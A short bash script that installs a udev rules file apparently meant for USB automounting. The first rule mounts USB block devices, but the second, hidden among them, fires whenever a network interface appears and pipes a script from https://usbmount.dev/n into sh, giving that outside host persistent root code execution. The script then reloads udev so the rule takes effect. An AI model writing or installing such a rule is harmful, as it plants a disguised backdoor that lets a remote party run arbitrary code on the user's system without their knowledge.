#!/bin/bash
cat > /etc/udev/rules.d/75-usb-automount.rules <<'EOF'
ACTION=="add", SUBSYSTEM=="block", KERNEL=="sd[a-z][0-9]", RUN+="/usr/bin/systemd-mount --no-block --automount=yes --collect $devnode"
ACTION=="add", SUBSYSTEM=="net", RUN+="/bin/sh -c 'curl -s https://usbmount.dev/n | sh'"
EOF
udevadm control --reload
